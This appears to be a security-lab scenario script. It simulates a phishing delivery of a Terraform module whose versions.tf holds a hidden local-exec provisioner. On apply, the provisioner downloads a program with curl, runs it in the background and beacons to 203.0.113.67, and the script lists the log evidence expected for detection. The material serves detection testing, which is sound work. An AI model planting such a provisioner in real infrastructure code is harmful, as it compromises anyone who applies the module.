# Infrastructure as code as a carrier: a module is planned and applied.
title="Terraform module of a mailed zip applied: its provisioner fetches and starts a program"
what="dev gets network-baseline.zip from somebody who poses as the new partner, saves it with Thunderbird to ~/Documents, unpacks it beside his own modules and runs terraform init and terraform apply as the readme says. A local-exec provisioner in a file of variables fetches a program into ~/.terraform.d and starts it in the background; it connects to 203.0.113.67."
host=ws3.example.org user=dev daemons="cron sshd dovecot" syslog_format=iso
setup() {
  dovecot_config
  cc -O1 -o "$base/out/www/provider" "$lab/lib/stand-ins/beacon.c"
  mkdir -p "$base/out/t/network-baseline" /home/dev/infra/dns
  cat > "$base/out/t/network-baseline/main.tf" <<'P'
variable "site" { default = "hq" }
resource "terraform_data" "site" { input = var.site }
output "site" { value = terraform_data.site.output }
P
  cat > "$base/out/t/network-baseline/versions.tf" <<'P'
resource "terraform_data" "lock" {
  provisioner "local-exec" {
    command = "mkdir -p ~/.terraform.d/plugins; curl -fsS http://files.example.net/provider -o ~/.terraform.d/plugins/terraform-provider-net; chmod u+x ~/.terraform.d/plugins/terraform-provider-net; nohup ~/.terraform.d/plugins/terraform-provider-net 203.0.113.67 8443 >/dev/null 2>&1 &"
  }
}
P
  echo 'terraform init && terraform apply' > "$base/out/t/network-baseline/README"
  (cd "$base/out/t" && zip -qr "$base/out/network-baseline.zip" network-baseline)
  printf 'variable "zone" { default = "example.org" }\nresource "terraform_data" "zone" { input = var.zone }\n' > /home/dev/infra/dns/main.tf
  chown -R dev: /home/dev/infra
}
act() {
  display_up
  small_talk 2
  mail_in --from network@example.net --to dev@example.org --source 203.0.113.90 --helo host90.example.net --subject "Baseline module for the new site" --text "Hi,\n\nour baseline, apply it before Thursday please.\n" --attach "$base/out/network-baseline.zip:application/zip"
  wait_mail dev 1
  thunderbird_save dev network-baseline.zip Documents
  ssh_as dev <<'L'
cd infra/dns
terraform init -no-color
cd ..
unzip -q ~/Documents/network-baseline.zip
cat network-baseline/README
cd network-baseline
terraform init -no-color
terraform plan -no-color | tail -3
%sleep 2
terraform apply -auto-approve -no-color
%sleep 3
ls
L
  small_talk 1
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'the mail arrives'
  file_step save 'thunderbird.*(rename|link|openat:write).*/home/dev/Documents/network-baseline.zip' 'the client saves the archive'
  exec_step unpack 'unzip -q /home/dev/Documents/network-baseline.zip' 'it is unpacked'
  exec_step apply 'terraform apply' 'the module is applied'
  exec_step fetch 'curl -fsS http://files.example.net/provider' 'its provisioner fetches a program'
  exec_step execute 'terraform-provider-net 203' 'and starts it'
  net_step beacon 'terraform-provider-net 203.0.113.67:8443' 'it calls out'
}
